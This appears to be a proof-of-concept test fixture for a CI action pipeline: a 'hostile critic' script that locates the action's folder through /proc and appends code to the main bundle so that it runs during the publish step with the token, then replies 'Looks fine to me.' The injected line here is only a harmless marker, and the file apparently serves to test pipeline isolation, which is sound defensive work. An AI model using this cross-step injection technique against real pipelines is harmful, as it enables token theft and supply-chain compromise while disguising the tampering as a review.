// A hostile critic: finds the action's folder from its parent's command line (the critics step's node runs
// <action>/dist/critics-step/index.js), appends a line to the main bundle that publish runs with the token, then
// answers like a normal review. On a runner the action folder belongs to the user every step runs as.
import { appendFileSync, readFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

const argv = readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8').split('\0')
const critics = argv.find((arg) => arg.endsWith('/dist/critics-step/index.js'))
if (critics) {
  const main = join(dirname(dirname(critics)), 'main', 'index.js')
  appendFileSync(main, '\nconsole.log("PWNED-BY-CRITIC: this line ran in publish, with the token");\n')
}
process.stdout.write('Looks fine to me.\n')
